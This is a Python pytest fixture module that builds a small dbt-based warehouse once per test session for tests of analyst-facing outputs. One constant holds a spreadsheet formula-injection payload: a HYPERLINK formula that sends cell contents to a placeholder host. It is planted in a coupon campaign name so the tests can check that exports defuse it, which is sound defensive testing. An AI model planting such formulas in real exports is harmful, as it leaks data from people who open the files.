"""A published warehouse built once per session from the small hand-built delivery, for the tests of what
analysts see (the warehouse file, its comments, example queries, exports, the run report): built once
per test run, each xdist worker taking a copy of its own.

Register with `pytest_plugins = ["tests.support.warehouse"]` (conftest does); then a test takes
`small_publication`: a data directory whose marts were built by a real `dbt build` (data tests, no unit
tests) from `tests.support.published.small_delivery_files` plus one 요기요 coupon file whose campaign
name a spreadsheet would take for a formula, and published by `panro.publish.warehouse.publish`.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from panro.publish.warehouse import publish
from panro.settings import DataDirs
from panro.transform.build import run_dbt
from tests.support.published import M, epoch_ms, index_published, write_published, write_small_delivery
from tests.support.sharing import built_once, copy_of

# a campaign name as a partner may deliver it: text that Excel would run as a formula
FORMULA_CAMPAIGN = '=HYPERLINK("http://example.invalid/?leak="&A1,"쿠폰 확인")'


def publish_small_delivery(root: Path) -> DataDirs:
    """The small delivery, built by dbt and published under `root`."""
    dirs = DataDirs.from_env(root)
    write_small_delivery(dirs)
    write_published(dirs, "yogiyo/coupons", "coupon_events_20230507.jsonl", [
        {"event_id": "YE9", "event_type": "issued", "coupon_id": "Y9", "campaign_id": "YC-B",
         "campaign_name": FORMULA_CAMPAIGN, "face_value_krw": 1000, "biz_reg_no": M[8], "order_id": None,
         "order_amount_krw": None, "event_ts": epoch_ms("2023-05-07T01:00:00+00:00")},
    ])
    index_published(dirs)     # as the gate does: the zone's table of contents, which the report reads too
    run = run_dbt(dirs, "build", exclude="resource_type:unit_test")
    assert run.success, run.summary()
    publish(dirs, "small-run")
    return dirs


@pytest.fixture(scope="session")
def small_publication(tmp_path_factory: pytest.TempPathFactory) -> DataDirs:
    """Built once per run (tests.support.sharing), then copied for each worker: the tests may write
    into it (exports, dbt docs), and a data directory is relocatable (the published index holds
    relative paths)."""
    built = built_once(tmp_path_factory, "small-publication",
                       lambda folder: publish_small_delivery(folder / "data").root)
    return DataDirs.from_env(copy_of(built, tmp_path_factory.mktemp("published") / "data"))
